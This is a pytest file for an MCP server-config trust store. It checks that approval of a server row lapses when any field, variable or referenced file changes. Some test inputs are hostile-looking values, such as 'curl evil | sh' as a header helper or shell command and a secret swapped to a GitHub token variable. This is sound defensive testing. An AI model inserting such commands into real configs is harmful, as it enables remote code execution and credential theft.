"""Consent covers every field of a row: whichever one changes, in whichever dialect, the row is held back."""

from __future__ import annotations

import copy
import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest

from indusagi.core.json import is_json_object
from induscode.boot.plans import ConsentedRows, plan_servers
from induscode.core.consent import ConsentChangedError
from induscode.launch.invocation import Invocation
from induscode.servers.config import read_rows
from induscode.servers.config.dialects import DIALECTS
from induscode.servers.config.rows import SWITCHES
from induscode.servers.config.trust import TrustStore, describe_row
from induscode.servers.plan import ServerPlan

Row = dict[str, Any]
STDIO: Row = {
    "type": "stdio",
    "command": "npx",
    "args": ["-y", "one@1.0.0"],
    "env": {"TOKEN": "${TOKEN:-x}", "PLAIN": "1"},
    "cwd": "/w",
    "env_vars": ["HOME"],
    "timeout": 1000,
    "startup_timeout_sec": 5,
    "tool_timeout_sec": 6,
    "description_limit": 100,
    "include_tools": ["a"],
    "exclude_tools": ["b"],
    "required": True,
    "start": "lazy",
    "stateless": True,
    "replicas": 2,
    "registry": {"name": "io.example/one", "version": "1.0.0"},
    "sandbox": {"hosts": ["api.example:443"]},
    "labels": {"*": ["private"], "send": ["outward"]},
    "meaningless": {"so": ["far"]},
}
REMOTE: Row = {
    "type": "http",
    "url": "https://mcp.example/x?key=1",
    "headers": {"Authorization": "Bearer literal", "X-Plain": "1"},
    "proxy": "http://proxy.example:3128",
    "headersHelper": "print-headers --all",
    "auth": {
        "grant": "client_credentials",
        "client_id": "me",
        "client_secret": "${CLIENT_SECRET:-s}",
        "auth_method": "client_secret_post",
        "private_key": "k",
        "signing_algorithm": "RS256",
        "client_metadata_url": "https://me.example/client.json",
        "redirect_uri": "http://localhost:1/callback",
        "issuer": "https://issuer.example",
        "metadata_url": "https://issuer.example/metadata",
        "assertion": "a",
        "assertion_file": "/a",
        "scopes": ["read"],
        "header_command": ["helper", "--all"],
        "callback_port": 8080,
        "dpop": True,
        "assume_pkce": True,
        "identity_provider": {"token_endpoint": "https://idp.example", "client_id": "i", "id_token": "t"},
        "meaningless": 1,
    },
    "timeout": 1000,
    "include_tools": ["a"],
    "later": True,
}
CODEX: Row = {
    "url": "https://mcp.example",
    "http_headers": {"X": "1"},
    "env_http_headers": {"Authorization": "PATH"},
    "bearer_token_env_var": "HOME",
    "startup_timeout_ms": 1000,
    "startup_timeout_sec": 2,
    "enabled_tools": ["a"],
}
DOCUMENTS: dict[str, list[tuple[str, tuple[str, ...], Row]]] = {
    "indus": [("own.json", ("servers",), STDIO), ("own.json", ("servers",), REMOTE)],
    "claude-code": [(".mcp.json", ("mcpServers",), STDIO), (".mcp.json", ("mcpServers",), REMOTE)],
    "claude-desktop": [("claude_desktop_config.json", ("mcpServers",), STDIO)],
    "cursor": [(".cursor/mcp.json", ("mcpServers",), STDIO), (".cursor/mcp.json", ("mcpServers",), REMOTE)],
    "vscode": [(".vscode/mcp.json", ("servers",), STDIO), (".vscode/mcp.json", ("servers",), REMOTE)],
    "codex": [
        ("config.json", ("mcp_servers",), CODEX),
        ("config.json", ("mcp_servers",), {"command": "x", "env_vars": [{"name": "HOME", "source": "local"}]}),
    ],
    "gemini": [
        (".gemini/settings.json", ("mcpServers",), {**STDIO, "trust": True}),
        (".gemini/settings.json", ("mcpServers",), {"httpUrl": "https://a.example", "url": "https://b.example"}),
    ],
    "qwen": [(".qwen/settings.json", ("mcpServers",), {"httpUrl": "https://a.example", "headers": {"A": "1"}})],
    "opencode": [
        ("opencode.json", ("mcp",), {"type": "local", "command": ["x", "-y"], "environment": {"A": "{env:HOME}"}}),
        ("opencode.json", ("mcp",), {"type": "remote", "url": "https://a.example", "oauth": {"clientId": "c"}}),
    ],
    "opencode-v2": [("opencode.json", ("mcp", "servers"), {"type": "local", "command": ["x", "-y"], "cwd": "/w"})],
    "windsurf": [
        (
            ".codeium/windsurf/mcp_config.json",
            ("mcpServers",),
            {"serverUrl": "https://a.example", "headers": {"A": "1"}},
        )
    ],
    "zed": [
        (".zed/settings.json", ("context_servers",), {"source": "custom", "command": "x", "args": ["y"]}),
        (".zed/settings.json", ("context_servers",), {"command": {"path": "x", "args": ["y"], "env": {"A": "1"}}}),
    ],
    "amp": [("amp.json", ("amp.mcpServers",), STDIO), ("amp.json", ("amp.mcpServers",), REMOTE)],
    "copilot": [(".copilot/mcp-config.json", ("mcpServers",), {**STDIO, "tools": ["*"]})],
    "cline": [
        ("cline_mcp_settings.json", ("mcpServers",), {"transport": {"type": "stdio", "command": "x"}, "timeout": 60})
    ],
}
CASES = [
    pytest.param(name, *case, id=f"{name}-{number}")
    for name, cases in DOCUMENTS.items()
    for number, case in enumerate(cases)
]


def iter_changes(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str, Any]]:
    """Yield every row that differs from `value` in one place: a leaf, an added member, a removed one."""
    if is_json_object(value):
        for key, part in value.items():
            for what, changed in iter_changes(part, (*path, key)):
                yield what, {**value, key: changed}
            if (path, key) != ((), "type"):  # a row with a command is stdio without it
                yield f"{path} without {key}", {other: part for other, part in value.items() if other != key}
        yield f"{path} with one more", {**value, "unheardOf": 1}
    elif isinstance(value, list):
        value = cast("list[Any]", value)
        for index, part in enumerate(value):
            for what, changed in iter_changes(part, (*path, index)):
                yield what, [*value[:index], changed, *value[index + 1 :]]
        yield f"{path} longer", [*value, "evil"]
        yield f"{path} shorter", value[:-1]
    elif isinstance(value, bool):
        yield f"{path}", not value
    elif isinstance(value, int | float):
        yield f"{path}", value + 1
    else:
        yield f"{path}", f"{value}-evil"
        yield f"{path} as another type", {"evil": value}


def write(file: Path, keys: tuple[str, ...], row: Row) -> None:
    document: Row = {keys[-1]: {"one": row}}
    for key in reversed(keys[:-1]):
        document = {key: document}
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(json.dumps(document), encoding="utf-8")


def test_every_dialect_has_a_case() -> None:
    assert DOCUMENTS.keys() == DIALECTS.keys()


@pytest.mark.parametrize(("dialect", "name", "keys", "row"), CASES)
def test_consent_covers_every_field_of_a_row(
    tmp_path: Path, dialect: str, name: str, keys: tuple[str, ...], row: Row
) -> None:
    file, store = tmp_path / name, TrustStore(str(tmp_path / "state" / "trust.json"))
    write(file, keys, row)
    (shown,), _ = read_rows(str(file), "project")
    assert shown.origin.dialect == dialect
    store.approve(shown, store.question(shown).digest)
    invocation = Invocation(cwd=str(tmp_path), mcp=(str(file),))
    consented = ConsentedRows(str(tmp_path), plan_servers(invocation), lambda _: "look")
    changes = list(iter_changes(copy.deepcopy(row)))
    assert len(changes) > len(row)
    for what, changed in changes:
        write(file, keys, changed)
        rows, _ = read_rows(str(file), "project")
        assert [store.consent(one) for one in rows] in ([], ["changed"]), what
        for one in rows:
            with pytest.raises(ConsentChangedError, match="it has changed since you looked"):
                store.approve(one, describe_row(shown).digest)
        rows, _ = read_rows(str(file), "given")
        plan = ServerPlan(rows, {one.id: one.config for one in rows})
        assert [*consented.hold_back(plan).configs] == [], what
    write(file, keys, row)
    (again,), _ = read_rows(str(file), "project")
    assert store.consent(again) == "trusted"
    assert [*consented.hold_back(plan_servers(invocation)).consent.values()] == ["trusted"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("config.toml", '[mcp_servers.one]\ncommand = "x"\nat = 2026-01-01\nenv = {A = nan}\ntimeout = inf\n'),
        ("named.json", '{"mcpServers": {"one": {"command": "x", "env": {"A": NaN}, "t": 1e999, "z": "\\ud800"}}}'),
        ("named.json", '{"mcpServers": {"one": {"command": "x", "type": NaN, "auth": [Infinity]}}}'),
    ],
)
def test_values_that_json_does_not_have_are_covered_too(tmp_path: Path, name: str, text: str) -> None:
    file, store = tmp_path / name, TrustStore(str(tmp_path / "trust.json"))
    file.write_text(text, encoding="utf-8")
    (row,), _ = read_rows(str(file), "project")
    store.approve(row, store.question(row).digest)
    assert store.consent(row) == "trusted"
    changed = text.replace("2026", "2027").replace("NaN", "Infinity").replace("Infinity]", "NaN]")
    file.write_text(changed, encoding="utf-8")
    (row,), _ = read_rows(str(file), "project")
    assert store.consent(row) == "changed"


def test_a_row_that_is_nested_too_deeply_is_left_out(tmp_path: Path) -> None:
    file = tmp_path / ".mcp.json"
    file.write_text(f'{{"mcpServers": {{"one": {{"command": "x", "y": {"[" * 200}{"]" * 200}}}}}}}', encoding="utf-8")
    rows, (note,) = read_rows(str(file), "project")
    assert (rows, "nested too deeply" in str(note)) == ((), True)


@pytest.mark.parametrize("key", sorted(SWITCHES))
def test_a_switch_is_no_part_of_the_consent(tmp_path: Path, key: str) -> None:
    file, store = tmp_path / ".mcp.json", TrustStore(str(tmp_path / "trust.json"))
    write(file, ("mcpServers",), {"command": "x"})
    (row,), _ = read_rows(str(file), "project")
    store.approve(row, describe_row(row).digest)
    write(file, ("mcpServers",), {"command": "x", key: key == "enabled"})
    (row,), _ = read_rows(str(file), "project")
    assert store.consent(row) == "trusted"


@pytest.mark.parametrize(
    "changed",
    [
        {"headersHelper": "curl evil | sh"},
        {"auth": {"header_command": ["sh", "-c", "curl evil | sh"]}},
        {"oauth": {"clientId": "other"}},
        {"auth": {"client_secret": "${GITHUB_TOKEN}"}},
        {"auth": False},
    ],
)
def test_finding_p1_a_named_file_whose_auth_changes_is_held_back(tmp_path: Path, changed: Row) -> None:
    file = tmp_path / "named.json"
    write(file, ("mcpServers",), {"url": "https://mcp.example"})
    invocation = Invocation(cwd=str(tmp_path), mcp=(str(file),))
    consented = ConsentedRows(str(tmp_path), plan_servers(invocation), lambda row: f"trust {row.id}")
    write(file, ("mcpServers",), {"url": "https://mcp.example", **changed})
    held = consented.hold_back(plan_servers(invocation))
    assert ([*held.configs], dict(held.consent)) == ([], {"one": "changed"})
    assert "(trust one)" in str(held.notes[-1])


def test_a_row_that_is_renamed_needs_its_own_yes(tmp_path: Path) -> None:
    file, store = tmp_path / ".mcp.json", TrustStore(str(tmp_path / "trust.json"))
    write(file, ("mcpServers",), {"command": "x"})
    (row,), _ = read_rows(str(file), "project")
    digest = store.question(row).digest
    file.write_text(json.dumps({"mcpServers": {"other": {"command": "x"}}}), encoding="utf-8")
    (renamed,), _ = read_rows(str(file), "project")
    with pytest.raises(ConsentChangedError, match="server 'other'"):
        store.approve(renamed, digest)
    store.approve(row, digest)
    assert store.consent(renamed) == "unknown"


@pytest.mark.parametrize(
    "row",
    [
        {"command": "${TOOL}"},
        {"command": "sh", "args": ["-c", "exec ${TOOL}"]},
        {"command": "bash", "args": ["-lc", "exec ${TOOL}"]},
        {"command": "npx", "args": ["--call=${TOOL}"]},
        {"command": "${TOOL:-good}"},
        {"url": "https://mcp.example", "headersHelper": "${TOOL} --headers"},
        {"url": "https://mcp.example", "auth": {"header_command": ["${TOOL}"]}},
    ],
)
def test_a_variable_that_decides_what_runs_is_covered(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, row: Row
) -> None:
    file, store = tmp_path / ".mcp.json", TrustStore(str(tmp_path / "trust.json"))
    write(file, ("mcpServers",), row)
    monkeypatch.setenv("TOOL", "/opt/good")
    (shown,), _ = read_rows(str(file), "project")
    question = store.question(shown)
    assert any("now: " in line and "/opt/good" in line for line in question.lines)
    store.approve(shown, question.digest)
    assert store.consent(shown) == "trusted"
    for value in ("/tmp/evil", ""):
        monkeypatch.setenv("TOOL", value)
        assert store.consent(shown) == "changed"
    monkeypatch.delenv("TOOL")
    assert store.consent(shown) == "changed"


def test_a_renewed_token_leaves_the_consent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file, store = tmp_path / ".mcp.json", TrustStore(str(tmp_path / "trust.json"))
    write(file, ("mcpServers",), {"command": "npx", "args": ["--token=${API_TOKEN}"], "env": {"A": "${API_TOKEN}"}})
    (shown,), _ = read_rows(str(file), "project")
    store.approve(shown, store.question(shown).digest)
    monkeypatch.setenv("API_TOKEN", "renewed")
    assert store.consent(shown) == "trusted"


def test_a_file_of_the_project_that_a_row_refers_to_is_covered(tmp_path: Path) -> None:
    file, script = tmp_path / "opencode.json", tmp_path / "command.txt"
    store = TrustStore(str(tmp_path / "state" / "trust.json"))
    script.write_text("good\n", encoding="utf-8")
    write(file, ("mcp",), {"type": "local", "command": ["sh", "-c", "{file:command.txt}"], "environment": {"A": "1"}})
    (shown,), _ = read_rows(str(file), "project")
    question = store.question(shown)
    assert any(line.startswith('file "command.txt": SHA-256 ') for line in question.lines)
    script.write_text("evil", encoding="utf-8")
    store.approve(shown, question.digest)
    config = shown.resolve({})
    assert getattr(config, "args", ()) == ("-c", "good"), "the file isn't read a second time"
    (changed,), _ = read_rows(str(file), "project")
    assert store.consent(changed) == "changed"
    with pytest.raises(ConsentChangedError):
        store.approve(changed, question.digest)


def test_a_consent_of_an_older_version_still_holds(tmp_path: Path) -> None:
    """The digest of a plain row is the one that earlier versions stored."""
    file, path = tmp_path / ".mcp.json", tmp_path / "trust.json"
    write(file, ("mcpServers",), {"type": "stdio", "command": "npx", "args": ["-y", "x"], "env": {"A": "1"}})
    (row,), _ = read_rows(str(file), "project")
    store = TrustStore(str(path))
    store.approve(row, describe_row(row).digest)
    stored = json.loads(path.read_text("utf-8"))
    (key,) = stored["approved"]

    def digest(value: object, salt: str = "") -> str:
        text = salt + json.dumps(value, sort_keys=True, separators=(",", ":"))
        return hashlib.sha256(text.encode()).hexdigest()

    facts = {"id": "one", "transport": "stdio", "argv": ["npx", "-y", "x"], "cwd": None, "env": {"A": "1"}}
    assert stored["approved"][key]["digest"] == digest(facts, stored["salt"])
    assert key == digest([str(file.resolve()), "one"])
